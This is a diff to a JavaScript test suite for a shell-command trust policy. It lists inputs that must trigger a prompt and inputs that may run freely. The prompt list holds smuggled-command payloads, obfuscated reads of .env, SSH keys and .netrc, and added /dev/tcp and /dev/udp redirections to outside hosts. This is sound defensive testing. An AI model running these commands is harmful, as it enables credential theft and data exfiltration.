@@ -272,7 +272,7 @@ describe('the trust policy for commands', () => {
       'echo `id`', 'echo "`id`"', 'echo $(echo $(echo $(id)))', 'echo ${x:-$(id)}', 'echo $((1+$(id)))', 'echo $[$(id)]', `echo "\${x:-'$(id)'}"`, 'echo hi\n&& id',
       'echo x;#\nid', 'echo test|&id', 'ls ;; id', 'ls & disown', 'coproc id', 'time id', '! id', 'a=(x $(id)); ls', 'echo x 1>&$(id)', 'ls >$(id)',
       'cat .env', 'cat ./.en\\v', "cat .e''nv", 'cat src/../.env', 'echo $(< .env)', 'cat 0<.env', 'cat <(cat .env)', 'cat ~/.ssh/../.ssh/id_rsa', 'cat ~/.netrc',
-      'npm\u00a0test', 'npm te\u200bst', 'ｎｐｍ test', 'npm test\rid', 'npm test\0; id', "echo x; ls -- '",
+      'cat < /dev/tcp/example.com/80', 'ls 2>/dev/udp/10.0.0.1/53', 'git status --output=.git/config', 'npm\u00a0test', 'npm te\u200bst', 'ｎｐｍ test', 'npm test\rid', 'npm test\0; id', "echo x; ls -- '",
     ];
     for (const line of mustAsk) {
       it(`asks: ${JSON.stringify(line)}`, () => {
@@ -282,7 +282,7 @@ describe('the trust policy for commands', () => {
     }
 
     // The allowed commands with arguments that stay what the user allowed: these run without asking.
-    const allowed = ["cat <<'EOF'\n$(id)\nEOF", 'cat <<"E"OF\n$(id)\nEOF', "echo '$(id)'", 'echo \\$HOME', 'echo {id,x}', 'echo ok # $(id)', 'l\\\ns', 'echo x >| out.txt', 'git status --porcelain=v2 -- \'*.ts\'', 'git status 2>&1 | cat'];
+    const allowed = ["cat <<'EOF'\n$(id)\nEOF", 'cat <<"E"OF\n$(id)\nEOF', "echo '$(id)'", 'echo \\$HOME', 'echo {id,x}', 'echo ok # $(id)', 'l\\\ns', 'echo x >| out.txt', 'git status --porcelain=v2 -- \'*.ts\'', 'git status 2>&1 | cat', 'git status -o'];
     for (const line of allowed) {
       it(`allows: ${JSON.stringify(line)}`, () => assertAllowed(line, {}, allow));
     }
